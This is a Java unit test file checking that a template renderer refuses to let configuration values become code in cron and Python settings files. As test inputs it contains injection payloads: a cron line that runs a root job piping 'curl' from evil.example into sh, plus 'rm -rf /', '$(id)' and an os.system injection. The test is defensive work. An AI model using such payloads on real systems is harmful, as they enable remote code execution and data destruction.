package io.reconcile.template;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import io.reconcile.input.InvalidInputException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A value never becomes code where a template puts it: a line break in any interpolated value is
 * refused (it would add a line: a root cron job, a Python statement), the Python output format writes
 * every value as a Python string literal, and structured values (numbers, booleans, cron schedules) are
 * checked for their shape. Errors name the template and line, never the value.
 */
class ValuesAsCodeTest {
  private static final String INJECTED = "17 * * * *\n* * * * * root curl -s http://evil.example/x | sh #";

  @TempDir Path templates;

  private String render(String name, String text, Map<String, Object> model) throws Exception {
    Files.writeString(templates.resolve(name), text);
    return new TemplateRenderer(templates).renderFile(name, model);
  }

  private InvalidInputException refusal(String name, String text, Map<String, Object> model) throws Exception {
    Files.writeString(templates.resolve(name), text);
    return catchThrowableOfType(InvalidInputException.class, () -> new TemplateRenderer(templates).renderFile(name, model));
  }

  @Test
  void aLineBreakInAnyValueIsRefusedWhereverItGoes() throws Exception {
    String cron = "SHELL=/bin/sh\n${project_control_schedule} root snf-manage project-control --terminate-expired\n";
    InvalidInputException e = refusal("cron.ftl", cron, Map.of("project_control_schedule", INJECTED));

    assertThat(e).as("refused").isNotNull();
    assertThat(e.describe()).startsWith(templates.getFileName() + "/cron.ftl:2: ").contains("line break", "project_control_schedule")
        .doesNotContain("evil.example");
    assertThat(render("cron.ftl", cron, Map.of("project_control_schedule", "17 * * * *")))
        .isEqualTo("SHELL=/bin/sh\n17 * * * * root snf-manage project-control --terminate-expired\n");
    assertThat(refusal("nul.ftl", "X = ${v}\n", Map.of("v", "a\u0000b"))).isNotNull();
    assertThat(refusal("cr.ftl", "X = ${v}\n", Map.of("v", "a\rb"))).isNotNull();
    assertThat(render("tab.ftl", "X = ${v}\n", Map.of("v", "a\tb"))).isEqualTo("X = a\tb\n");
  }

  @Test
  void aCronScheduleHasTheShapeOfOne() throws Exception {
    String cron = "${cron_schedule(s)} root true\n";
    assertThat(render("c.ftl", cron, Map.of("s", "*/10 1-5,7 * jan-mar mon-fri"))).isEqualTo("*/10 1-5,7 * jan-mar mon-fri root true\n");
    assertThat(render("c.ftl", cron, Map.of("s", "@hourly"))).isEqualTo("@hourly root true\n");
    for (String bad : new String[] {"17 * * *", "17 * * * * root rm -rf /", "17 * * * ; id", "$(id) * * * *", "@never"}) {
      assertThat(refusal("c.ftl", cron, Map.of("s", bad))).as(bad).isNotNull()
          .satisfies(e -> assertThat(e.describe()).contains("c.ftl:1:", "cron schedule"));
    }
  }

  @Test
  void thePythonFormatWritesEveryValueAsAStringLiteral() throws Exception {
    String settings = """
        <#ftl output_format="Python">
        QUOTAHOLDER_TOKEN = ${token}
        QUOTAHOLDER_URL = ${url + "/quotaholder/v"}
        UPLIMIT = ${py_int(uplimit)}
        USE_QUOTAHOLDER = ${py_bool(use)}
        """;
    String out = render("s.conf.ftl", settings, Map.of("token", "a'b\\c\"d\u00e9", "url", "https://x/'); import os; os.system('id",
        "uplimit", "30*1024*1024*1024", "use", "false"));

    assertThat(out).isEqualTo("""
        QUOTAHOLDER_TOKEN = 'a\\'b\\\\c"d\\xc3\\xa9'
        QUOTAHOLDER_URL = 'https://x/\\'); import os; os.system(\\'id/quotaholder/v'
        UPLIMIT = 30*1024*1024*1024
        USE_QUOTAHOLDER = False
        """);
    assertThat(render("n.conf.ftl", "<#ftl output_format=\"Python\">\nX = ${v}\n", Map.of("v", "one\ntwo")))
        .isEqualTo("X = 'one\\ntwo'\n");
    for (Map<String, Object> bad : java.util.List.<Map<String, Object>>of(Map.of("uplimit", "6; import os", "use", "True"),
        Map.of("uplimit", "6", "use", "maybe"))) {
      assertThat(refusal("b.conf.ftl", "<#ftl output_format=\"Python\">\nU = ${py_int(uplimit)}\nB = ${py_bool(use)}\n", bad))
          .as(bad.toString()).isNotNull();
    }
  }
}
